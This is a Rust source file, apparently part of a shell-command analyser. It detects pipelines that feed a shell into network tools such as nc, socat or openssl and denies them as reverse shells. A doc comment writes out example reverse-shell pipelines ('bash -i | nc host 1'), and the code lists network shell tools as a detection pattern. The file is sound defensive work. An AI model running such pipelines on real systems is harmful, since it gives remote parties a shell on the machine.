//! What only shows across a pipeline: a shell joined to the network.

use crate::programs;
use crate::rules::shell::is_shell;
use crate::tree::{Node, Word};
use crate::verdict::Finding;
use crate::walk::Walker;

/// `bash -i | nc host 1` and `nc host 1 | sh | nc host 2`: a shell whose output goes to the network.
pub(crate) fn check(w: &mut Walker, commands: &[Node]) {
    let name = |node: &Node| match node {
        Node::Simple(simple) => {
            let words = simple.words.iter().filter_map(Word::as_literal);
            words
                .map(|t| t.rsplit('/').next().unwrap_or_default().to_owned())
                .find(|n| !programs::is_wrapper(n) && !n.starts_with('-'))
        }
        _ => None,
    };
    let names: Vec<String> = commands.iter().map(|c| name(c).unwrap_or_default()).collect();
    let shell = names.iter().position(|n| is_shell(n));
    if let Some(at) = shell
        && let Some(other) = names[at + 1..]
            .iter()
            .find(|n| matches!(n.as_str(), "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl"))
    {
        w.report(
            &format!("{} | {other}", names[at]),
            &[],
            Finding::deny("gives a shell to the network (reverse shell)"),
        );
    }
}
